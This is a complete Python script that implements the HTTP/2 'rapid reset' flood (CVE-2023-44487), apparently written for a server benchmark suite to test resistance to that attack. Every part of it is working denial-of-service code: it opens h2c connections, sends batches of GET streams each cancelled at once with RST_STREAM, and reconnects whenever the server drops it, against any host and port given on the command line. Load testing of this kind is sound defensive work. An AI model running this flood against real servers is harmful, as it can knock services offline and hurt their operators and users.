"""The HTTP/2 "rapid reset" flood (CVE-2023-44487), for bench/h2.sh's rapid-reset mode.

    python3 bench/rapid_reset.py HOST PORT SECONDS [CONNECTIONS]

Over each h2c connection (HTTP/2 by prior knowledge): a GET, then RST_STREAM(CANCEL) for it at once, 100 pairs a
write, as fast as the server reads; a connection the server closes is opened again. Prints one line: the streams sent.
Needs Debian's python3-h2.
"""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
count = int(sys.argv[4]) if len(sys.argv) > 4 else 2
headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", f"{host}:{port}")]


def connect():
    sock = socket.create_connection((host, port))
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def flood(sock, conn):
    """Sends 100 opened-and-cancelled streams, then reads what the server said; raises once it closed."""
    for _ in range(100):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, headers, end_stream=True)
        conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    try:
        data = sock.recv(65536)
    except BlockingIOError:
        return
    finally:
        sock.setblocking(True)
    if not data:
        raise ConnectionError("closed")
    for event in conn.receive_data(data):
        if isinstance(event, h2.events.ConnectionTerminated):
            raise ConnectionError("GOAWAY")
    sock.sendall(conn.data_to_send())


connections = [connect() for _ in range(count)]
sent = 0
end = time.time() + seconds
while time.time() < end:
    for i, (sock, conn) in enumerate(connections):
        try:
            flood(sock, conn)
            sent += 100
        except (ConnectionError, OSError, h2.exceptions.H2Error):
            sock.close()
            connections[i] = connect()
print(sent)
